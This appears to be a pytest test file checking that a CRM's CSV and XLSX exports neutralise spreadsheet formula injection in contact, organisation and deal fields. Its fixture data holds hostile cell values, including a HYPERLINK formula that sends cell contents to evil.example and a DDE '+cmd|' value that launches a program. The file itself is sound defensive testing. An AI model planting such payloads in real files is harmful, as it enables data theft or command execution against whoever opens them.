"""The contacts, organisations and deals exports never hand a spreadsheet a formula.

The attack: import a contact whose name is `=HYPERLINK("https://…?"&B2,"open")` (and other
formula starts), then export. Opened in a spreadsheet, no cell may run, every text must show
as it was typed, amounts must stay numbers, and the export must import back unchanged.
"""

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import update
from sqlmodel import Session, select

from db.auth.accounts import get_user_by_username
from db.auth.actor import OPERATOR
from db.core.spreadsheets import FORMULA_STARTS
from db.demo.fixtures import seed_users
from db.imports.batches import run_import
from db.imports.export import EXPORT_KINDS, export_csv, export_xlsx
from db.imports.files import read_table
from db.models.auth import User
from db.models.people import Contact, ContactUpdate, Organisation
from db.models.pipeline import Deal
from db.people.contacts import update_contact
from db.pipeline.setup import StageSpec, create_pipeline

NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
LINK = '=HYPERLINK("https://evil.example/?"&B2,"open")'
CONTACTS = [
    ["external_ref", "given_name", "family_name", "job_title", "phone", "notes", "organisation"],
    ["c1", LINK, "Silva", "-2+3", "+44 20 7946 0018", "@SUM(1+1)", "=Kestrel()"],
    ["c2", "Ben", "+cmd|' /C calc'!A0", "'=1+1", "", "\t=1+1", "Heron"],
]
DEALS = (
    "external_ref,title,pipeline,stage,amount,organisation\n"
    'd1,"=HYPERLINK(""https://evil.example"",""x"")",New business,Lead,12500,=Kestrel()\n'
    "d2,-minus,New business,Lead,4000.50,Heron\n"
)


def starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet would run this CSV cell (a plain number such as -5 is a number)."""
    return cell.lstrip(" \u00a0")[:1] in FORMULA_STARTS and not NUMBER.fullmatch(cell)


def admin(session: Session) -> User:
    found = get_user_by_username(session=session, username="admin")
    assert found is not None
    return found


@pytest.fixture
def hostile(session: Session) -> Session:
    seed_users(session=session)
    create_pipeline(
        session=session,
        name="New business",
        currency="GBP",
        stages=[StageSpec("Lead", 10, 14), StageSpec("Won", 100, 14)],
        actor=OPERATOR,
    )
    out = io.StringIO()
    csv.writer(out).writerows(CONTACTS)
    made = run_import(
        session=session,
        actor=admin(session),
        kind="contacts",
        data=out.getvalue().encode(),
        filename="c.csv",
    )
    assert (made.created, made.rejected) == (2, []), made.rejected
    deals = run_import(
        session=session, actor=admin(session), kind="deals", data=DEALS.encode(), filename="d"
    )
    assert (deals.created, deals.rejected) == (2, []), deals.rejected
    # A refund-like negative amount (the import refuses them; data from elsewhere may not).
    session.execute(update(Deal).where(Deal.external_ref == "d2").values(amount=-5))  # type: ignore[arg-type]
    session.commit()
    return session


@pytest.mark.parametrize("kind", EXPORT_KINDS)
def test_no_csv_export_cell_starts_a_formula(hostile: Session, kind: str) -> None:
    rows = list(
        csv.reader(
            io.StringIO(export_csv(session=hostile, actor=admin(hostile), kind=kind).decode())
        )
    )
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    assert any(cell.startswith("'=") for cell in cells)  # the hostile text is there, marked


@pytest.mark.parametrize("kind", EXPORT_KINDS)
def test_no_xlsx_export_cell_is_or_starts_a_formula(hostile: Session, kind: str) -> None:
    data = export_xlsx(session=hostile, actor=admin(hostile), kind=kind)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and starts_a_formula(c.value)]


def test_deal_amounts_stay_numbers_even_when_negative(hostile: Session) -> None:
    actor = admin(hostile)
    rows = list(
        csv.reader(io.StringIO(export_csv(session=hostile, actor=actor, kind="deals").decode()))
    )
    amount = rows[0].index("amount")
    assert sorted(row[amount] for row in rows[1:]) == ["-5.00", "12500.00"]
    sheet = load_workbook(io.BytesIO(export_xlsx(session=hostile, actor=actor, kind="deals")))
    column = [c.value for c in next(sheet.worksheets[0].iter_cols(min_col=amount + 1))]
    assert sorted(column[1:]) == [-5, 12500]
    assert title_cell_of(rows, "d2") == "'-minus"


def title_cell_of(rows: list[list[str]], ref: str) -> str:
    title = rows[0].index("title")
    return next(row[title] for row in rows[1:] if row[0] == ref)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_imports_back_to_exactly_what_was_typed(
    hostile: Session, fmt: str
) -> None:
    actor = admin(hostile)
    export = export_csv if fmt == "csv" else export_xlsx
    before = {c.external_ref: c.model_dump() for c in hostile.exec(select(Contact)).all()}
    again = run_import(
        session=hostile,
        actor=actor,
        kind="contacts",
        data=export(session=hostile, actor=actor, kind="contacts"),
        filename=f"contacts.{fmt}",
        update_by="external_ref",
    )
    assert (again.created, again.updated, again.rejected) == (0, 0, [])
    hostile.expire_all()
    after = {c.external_ref: c.model_dump() for c in hostile.exec(select(Contact)).all()}
    assert after == before
    assert (
        after["c1"]["given_name"] == LINK and after["c2"]["job_title"] == "=1+1"
    )  # its mark was read as one
    names = set(hostile.exec(select(Organisation.name)).all())
    assert "=Kestrel()" in names


FORMULA_TEXT = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(["=", "+", "-", "@", "\t=", " =", "'=", "＝", ""]),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=30),
)


@given(notes=FORMULA_TEXT, job=FORMULA_TEXT)
@example(notes="=\x1b", job="+\x07")
@settings(max_examples=25)
def test_any_text_exports_inert_and_imports_back_as_stored(
    hostile: Session, notes: str, job: str
) -> None:
    actor = admin(hostile)
    contact = hostile.exec(select(Contact).where(Contact.external_ref == "c1")).one()
    saved = update_contact(
        session=hostile,
        contact_id=contact.id or 0,
        patch=ContactUpdate(notes=notes or None, job_title=job[:100] or None),
        version=contact.version,
        actor=actor,
    )
    hostile.expire_all()  # what the database holds, after its own cleaning of text
    fresh = hostile.get(Contact, saved.id)
    assert fresh is not None
    stored = (fresh.notes or "", fresh.job_title or "")
    text = export_csv(session=hostile, actor=actor, kind="contacts").decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert not [cell for row in rows for cell in row if starts_a_formula(cell)]
    sheet = load_workbook(io.BytesIO(export_xlsx(session=hostile, actor=actor, kind="contacts")))
    cells = [cell for row in sheet.worksheets[0].iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    back = read_table(text.encode(), "contacts.csv")
    header = back.headers
    row = next(r for r in back.rows if r[header.index("external_ref")] == "c1")
    assert (row[header.index("notes")], row[header.index("job_title")]) == stored
